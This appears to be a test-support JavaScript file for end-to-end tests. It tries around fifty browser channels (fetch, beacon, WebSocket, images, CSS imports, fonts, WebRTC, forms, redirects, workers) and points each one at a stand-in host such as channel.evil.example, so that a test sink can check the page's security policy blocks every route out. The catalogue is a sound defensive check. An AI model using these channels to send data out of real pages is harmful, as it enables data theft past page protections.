// Served to the page beside the app's own scripts: every way out of a page that a script has. Each takes the address
// of a host of its own; what reaches it, tests/e2e/support/sink.ts records.
const add = (tag, properties, parent = document.body) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(properties)) element.setAttribute(name, value);
  parent.append(element);
  return element;
};
const frame = () => add('iframe', {}).contentWindow;

/** Leave the page where it is. */
const STAYING = {
  fetch: (url) => fetch(url),
  fetchNoCors: (url) => fetch(url, { mode: 'no-cors' }),
  fetchKeepalive: (url) => fetch(url, { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' }),
  fetchOfFrame: (url) => frame().fetch(url, { mode: 'no-cors' }),
  xhr: (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  beacon: (url) => navigator.sendBeacon(url, 'x'),
  webSocket: (url) => new WebSocket(url.replace('http', 'ws')),
  eventSource: (url) => new EventSource(url),
  image: (url) => (new Image().src = url),
  imageOfFrame: (url) => (new (frame().Image)().src = url),
  srcset: (url) => add('img', { srcset: `${url} 1x` }),
  svgImage: (url) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', url);
    svg.append(image);
    document.body.append(svg);
  },
  inputImage: (url) => add('input', { type: 'image', src: url }),
  background: (url) => (document.body.style.backgroundImage = `url(${url})`),
  styleImport: (url) => (add('style', {}).textContent = `@import url(${url});`),
  stylesheet: (url) => add('link', { rel: 'stylesheet', href: url }),
  adoptedSheet: (url) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`main { list-style-image: url(${url}); border-image: url(${url}) 1; }`);
    document.adoptedStyleSheets.push(sheet);
  },
  font: (url) => new FontFace('probe', `url(${url})`).load(),
  audio: (url) => add('audio', { src: url, preload: 'auto' }),
  video: (url) => add('video', { src: url, preload: 'auto' }),
  poster: (url) => add('video', { poster: url }),
  object: (url) => add('object', { data: url }),
  embed: (url) => add('embed', { src: url }),
  iframe: (url) => add('iframe', { src: url }),
  script: (url) => add('script', { src: url }),
  moduleScript: (url) => add('script', { src: url, type: 'module' }),
  import: (url) => import(url),
  modulePreload: (url) => add('link', { rel: 'modulepreload', href: url }),
  prefetch: (url) => add('link', { rel: 'prefetch', href: url }),
  preload: (url) => add('link', { rel: 'preload', as: 'fetch', href: url, crossorigin: '' }),
  preconnect: (url) => add('link', { rel: 'preconnect', href: url }),
  dnsPrefetch: (url) => add('link', { rel: 'dns-prefetch', href: url }),
  icon: (url) => add('link', { rel: 'icon', href: url }, document.head),
  manifest: (url) => {
    document.querySelector('link[rel=manifest]')?.remove();
    add('link', { rel: 'manifest', href: url }, document.head);
  },
  ping: (url) => {
    const link = add('a', { href: '#log', ping: url });
    link.click();
  },
  formInFrame: (url) => {
    const inner = frame();
    const form = inner.document.createElement('form');
    form.action = url;
    form.method = 'post';
    inner.document.body.append(form);
    form.submit();
  },
  worker: (url) => new Worker(url),
  webRtc: async (_url, datagramPort) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${datagramPort}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
};

/** Lead the page, or a new one, elsewhere. */
const LEAVING = {
  open: (url) => window.open(url),
  openNoopener: (url) => window.open(url, '_blank', 'noopener'),
  location: (url) => (location.href = url),
  replace: (url) => location.replace(url),
  link: (url) => add('a', { href: url }).click(),
  linkToNewPage: (url) => add('a', { href: url, target: '_blank', rel: 'noopener' }).click(),
  formGet: (url) => add('form', { action: url }).submit(),
  formPost: (url) => add('form', { action: url, method: 'post' }).submit(),
  metaRefresh: (url) => add('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` }, document.head),
};

const WORKERS = { inWorker: '/probes/worker.js', inServiceWorker: '/probes/serviceWorker.js' };

const toUrl = (channel) => `http://${channel}.evil.example/${channel}`;
const settle = async (attempt) => {
  try {
    await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 500))]);
  } catch {
    // Refused, as it should be: what counts is what reaches the other side.
  }
};

globalThis.probe = {
  staying: Object.keys(STAYING),
  leaving: Object.keys(LEAVING),
  /** With an address, each channel takes that of its name there, for browsers whose hosts cannot be mapped. */
  tryStaying: async (datagramPort, address) => {
    for (const [channel, attempt] of Object.entries(STAYING)) {
      const url = address === undefined ? toUrl(channel) : `${address}${channel}`;
      void settle(() => attempt(url, datagramPort));
    }
    await new Promise((resolve) => setTimeout(resolve, 1500));
  },
  tryLeaving: (channel) => settle(() => LEAVING[channel](toUrl(channel))),
  /** What the worker tried. */
  tryInWorker: () =>
    new Promise((resolve) => {
      const worker = new Worker(WORKERS.inWorker);
      worker.onmessage = ({ data }) => resolve(data);
    }),
  tryInServiceWorker: async () => {
    const registration = await navigator.serviceWorker.register(WORKERS.inServiceWorker);
    const worker = registration.installing ?? registration.waiting ?? registration.active;
    return new Promise((resolve) => {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => resolve(data);
      worker.postMessage('try', [port2]);
    });
  },
};
